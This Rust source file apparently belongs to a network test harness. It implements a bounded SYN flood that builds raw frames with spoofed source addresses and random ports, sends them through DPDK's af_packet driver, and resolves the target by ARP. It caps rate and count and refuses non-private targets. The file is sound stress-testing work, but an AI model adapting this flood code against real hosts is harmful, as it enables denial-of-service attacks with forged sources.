//! A flood of SYNs from made-up addresses and ports, bounded in rate, number and time.
//!
//! It sends frames by DPDK's af_packet PMD out of one interface of a network namespace, asks for the target's Ethernet address by
//! ARP, and looks at nothing that comes back. It is meant for namespaces made for it: targets outside of private networks are refused.

#![forbid(unsafe_code)]

use core::net::{Ipv4Addr, SocketAddrV4};
use core::sync::atomic::{AtomicBool, Ordering};
use core::time::Duration;
use std::time::Instant;

use pmd::{Burst, DpdkLane, Eal, EalOptions, Frame, Hugepages, Lane, Port, PortOptions, TxChecksum};

/// SYNs a second at most, whatever is asked for.
pub const FASTEST: u32 = 200_000;

/// SYNs at most.
pub const MOST: u64 = 20_000_000;

/// From one look at the clock to the next.
const STEP: Duration = Duration::from_micros(500);

/// How long the target has to answer ARP.
const PATIENCE: Duration = Duration::from_secs(3);

const BROADCAST: [u8; 6] = [0xff; 6];

/// MSS 1460, SACK permitted, timestamps, window scale 7: what Linux asks for.
const OPTIONS: [u8; 20] = [2, 4, 5, 180, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7];

/// A longer pause is not made up for.
const PAUSE: Duration = Duration::from_millis(100);

/// What to send.
#[derive(Debug, Clone)]
pub struct Plan {
    /// The interface to send from, in this thread's network namespace.
    pub interface: String,
    /// The target.
    pub to: SocketAddrV4,
    /// An address that nobody has, on the target's network: ARP is asked from it, and the SYNs come from the addresses around it.
    pub from: Ipv4Addr,
    /// SYNs a second.
    pub rate: u32,
    /// SYNs in all.
    pub count: u64,
    /// The target's Ethernet address; `None` asks by ARP, whose answer does not come where somebody else takes the interface's frames by AF_XDP.
    pub mac: Option<[u8; 6]>,
    /// To an Ethernet address that nobody has: the same work for the sender and the wire, and none for the target.
    pub nobody: bool,
}

/// What was sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sent {
    /// SYNs that the interface took.
    pub syns: u64,
    /// How long it took.
    pub took: Duration,
}

/// Sends until all is sent, or `stop` is set.
///
/// # Errors
/// In words: what DPDK or the interface lacks, or that the target does not answer.
pub fn flood(plan: &Plan, stop: &AtomicBool) -> Result<Sent, String> {
    if !plan.to.ip().is_private() {
        return Err(format!("{} is not in a private network", plan.to.ip()));
    }
    let device = format!("net_af_packet0,iface={}", plan.interface);
    let options =
        EalOptions { mebibytes: 64, hugepages: Hugepages::Off, devices: vec![device.clone()], ..EalOptions::default() };
    let eal = Eal::start(&options).map_err(|error| error.to_string())?;
    let options = PortOptions { mbufs: 4096, ..PortOptions::default() };
    let mut port = Port::configure(&eal, &device, &options).map_err(|error| error.to_string())?;
    port.start().map_err(|error| error.to_string())?;
    let mut lane = port.take_lane(0).map_err(|error| error.to_string())?;
    let mut target = match plan.mac {
        Some(mac) => mac,
        None => resolve(&mut lane, plan)?,
    };
    if plan.nobody {
        // A locally administered one beside the target's own.
        target[5] ^= 0x80;
        target[0] |= 2;
    }
    let mut random = Random(0x5eed_f100d);
    let rate = plan.rate.min(FASTEST);
    let count = plan.count.min(MOST);
    let (start, mut step) = (Instant::now(), Instant::now());
    let (mut sent, mut due) = (0, 0.0);
    while sent < count && !stop.load(Ordering::Relaxed) {
        // Whoever stopped this process for a while (SIGSTOP) wanted no flood then, and no larger one now.
        due += step.elapsed().min(PAUSE).as_secs_f64() * f64::from(rate);
        step = Instant::now();
        while sent < (due as u64).min(count) {
            // An empty pool or a full ring is a SYN less, which the lane counts.
            if let Some(frame) = lane.allocate() {
                let own = lane.mac();
                transmit(&mut lane, frame, &syn(plan, target, own, &mut random));
            }
            sent += 1;
        }
        lane.flush();
        std::thread::sleep(STEP);
    }
    let took = start.elapsed();
    let asked = u64::from(plan.mac.is_none());
    Ok(Sent { syns: lane.counters().tx_packets.saturating_sub(asked), took })
}

fn transmit(lane: &mut DpdkLane, mut frame: pmd::Mbuf, bytes: &[u8]) {
    if frame.set_len(bytes.len()) {
        frame.bytes_mut().copy_from_slice(bytes);
        lane.transmit(frame, TxChecksum::Tcp { l2_len: 14, l3_len: 20 });
    }
}

/// One SYN. Its checksums are left to the lane.
fn syn(plan: &Plan, target: [u8; 6], own: [u8; 6], random: &mut Random) -> Vec<u8> {
    let number = random.next();
    // Half of them neighbors, half from anywhere in 198.18.0.0/15, which is for such tests (RFC 2544).
    let neighbor = (plan.from.to_bits() & !0x3f) | (number as u32 & 0x3f);
    let stranger = 0xc612_0000 | (number as u32 & 0x1_ffff);
    let source = if number >> 63 == 0 { neighbor } else { stranger };
    let port = 1024 + (number >> 32) as u16 % 60_000;
    let seq = (number >> 17) as u32;
    let mut frame = Vec::with_capacity(74);
    frame.extend(target);
    frame.extend(own);
    frame.extend([8, 0, 0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    frame.extend(source.to_be_bytes());
    frame.extend(plan.to.ip().octets());
    frame.extend(port.to_be_bytes());
    frame.extend(plan.to.port().to_be_bytes());
    frame.extend(seq.to_be_bytes());
    frame.extend([0, 0, 0, 0, 0xa0, 0x02, 0xfa, 0xf0, 0, 0, 0, 0]);
    frame.extend(OPTIONS);
    frame
}

/// The target's Ethernet address.
fn resolve(lane: &mut DpdkLane, plan: &Plan) -> Result<[u8; 6], String> {
    let mut question = [&BROADCAST[..], &lane.mac(), &[8, 6, 0, 1, 8, 0, 6, 4, 0, 1], &lane.mac()].concat();
    question.extend(plan.from.octets());
    question.extend([0; 6]);
    question.extend(plan.to.ip().octets());
    let mut frame = lane.allocate().ok_or("no buffer for an ARP request")?;
    if !frame.set_len(question.len()) {
        return Err("a buffer is too small for an ARP request".to_owned());
    }
    frame.bytes_mut().copy_from_slice(&question);
    lane.transmit(frame, TxChecksum::Complete);
    lane.flush();
    let end = Instant::now() + PATIENCE;
    while Instant::now() < end {
        let mut burst = Burst::new();
        lane.receive(&mut burst);
        for frame in burst {
            let bytes = frame.bytes();
            let answer = bytes.get(12..14) == Some(&[8, 6])
                && bytes.get(20..22) == Some(&[0, 2])
                && bytes.get(28..32) == Some(&plan.to.ip().octets());
            if answer && let Some(mac) = bytes.get(22..28).and_then(|mac| mac.try_into().ok()) {
                return Ok(mac);
            }
        }
        std::thread::sleep(STEP);
    }
    Err(format!("{} does not answer ARP", plan.to.ip()))
}

/// SplitMix64 (Steele, Lea and Flood 2014).
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
}
